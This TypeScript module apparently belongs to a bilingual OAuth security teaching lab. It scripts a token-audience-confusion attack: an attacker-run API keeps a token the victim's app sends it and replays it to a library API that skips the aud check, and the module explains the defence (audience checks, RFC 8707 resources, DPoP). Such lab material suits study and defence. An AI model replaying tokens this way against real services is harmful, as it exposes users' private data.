/** A token that was made for one API is shown to another. */
import { ANGELA, abbreviate, PROVIDER } from '../actors.ts';
import { type Attack, fails, works } from '../attack.ts';
import type { Lab } from '../lab.ts';
import {
  authorizeUrl,
  diaryRequest,
  exchangeCode,
  goThrough,
  registerDiary,
  secretOfDiary,
  tokenIn,
} from '../open.ts';

const LIBRARY = 'mediatheque';
const SCOPE = 'openid loans';

const adviceOf = (lab: Lab) => `${lab.url('attacker')}/advice`;

/** An API of Malo's, which the broker knows, with a scope that libraries share. */
function registerAdvice(lab: Lab): Promise<void> {
  return lab.put('dataProviders', {
    ...{ id: 'advice', title: { fr: 'Conseils de lecture', en: 'Reading advice' } },
    ...{ url: adviceOf(lab), hosted: false, brokers: [lab.broker], scopes: ['loans'] },
    clientId: 'demonstration-client-of-reading-advice',
    clientSecret: 'demonstration-secret-of-reading-advice-of-malo',
    accessTokens: 'jwt',
  });
}

/** What the Diary is given for this API, and for no other. */
async function tokenForAdvice(lab: Lab): Promise<string> {
  const resource = adviceOf(lab);
  const url = authorizeUrl(lab, diaryRequest({ scope: SCOPE, resource }));
  const { answer, page } = await goThrough(lab.victim, url, ANGELA.login);
  if (!answer.code) throw new Error(`the sign-in ended at ${page.url}`);
  const proof = { ...secretOfDiary, resource };
  return tokenIn(await exchangeCode(lab, 'application', { code: answer.code, proof }));
}

const bearer = (token: string) =>
  ({ method: 'GET', headers: { authorization: `Bearer ${token}` } }) as const;

export const neighboursToken: Attack = {
  id: 'neighbours-token',
  rfc: 'RFC 9700 §4.9.1, RFC 9068 §4',
  title: { fr: 'Le jeton du voisin', en: 'The neighbour’s token' },
  hook: {
    fr: 'L’Agenda confie un jeton à l’API de Malo. Malo va le montrer à la Médiathèque.',
    en: 'The Diary hands a token to Malo’s API. Malo goes and shows it at the public library.',
  },
  scene: {
    fr: 'Malo tient « Conseils de lecture », une API que le tiers de confiance connaît, avec la portée loans que les bibliothèques partagent. Angela y raccorde son Agenda : pour cette API, l’Agenda demande un jeton, et l’envoie. Tout est en règle, jusqu’à ce que Malo montre ce jeton ailleurs.',
    en: 'Malo runs “Reading advice”, an API that the broker knows, with the scope loans that libraries share. Angela connects her Diary to it: for this API the Diary asks for a token, and sends it. All is in order, until Malo shows that token elsewhere.',
  },
  victimSees: {
    fr: 'Un conseil de lecture, plutôt bon.',
    en: 'A piece of reading advice, rather a good one.',
  },
  attackerGains: {
    fr: 'Les emprunts d’Angela, et tout ce que l’API voisine dit à qui a un jeton.',
    en: 'Angela’s loans, and all that the neighbouring API tells whoever has a token.',
  },
  cast: ['my-open-app', PROVIDER, LIBRARY],
  weakness: 'data-provider.ignores-aud',
  check: "...(!config.weaknesses?.includes('data-provider.ignores-aud') && { audience }),",
  defence: {
    fr: 'Un jeton est fait pour une API, que son destinataire (aud) nomme. La Médiathèque compare cette adresse à la sienne ; la signature, la portée et la date ne disent rien de cela. Côté service : un jeton par API (resource, RFC 8707), ou lié à une clé (DPoP).',
    en: 'A token is made for one API, which its audience (aud) names. The public library compares that address with its own; signature, scope and time say nothing of it. At the service: one token for each API (resource, RFC 8707), or one that is bound to a key (DPoP).',
  },
  refusal: 'invalid_token',
  async prepare(lab) {
    await registerAdvice(lab);
    await registerDiary(lab, { scopes: ['openid', 'loans'] });
  },
  async play(lab, narrate) {
    const token = await tokenForAdvice(lab);
    const advice = await lab.call('application', adviceOf(lab), bearer(token));
    narrate(
      'victim',
      `Se connecte à l’Agenda, qui montre le jeton ${abbreviate(token)} à Conseils de lecture : réponse ${advice.status}.`,
      `Signs in to the Diary, which shows the token ${abbreviate(token)} to Reading advice: answer ${advice.status}.`,
    );
    const kept = (await lab.notebook.first('token'))?.token ?? '';
    const url = `${lab.url(LIBRARY)}/api/v1/data`;
    const books = await lab.call('attacker', url, bearer(kept));
    narrate(
      'attacker',
      `A gardé le jeton, et le montre à la Médiathèque : réponse ${books.status}.`,
      `Has kept the token, and shows it at the public library: answer ${books.status}.`,
    );
    return books.json.loans
      ? works(`Malo lit les emprunts d’${ANGELA.name}.`, `Malo reads the loans of ${ANGELA.name}.`)
      : fails(
          'Ce jeton est pour Conseils de lecture : la Médiathèque le refuse.',
          'This token is for Reading advice: the public library refuses it.',
          books.refusal,
        );
  },
};
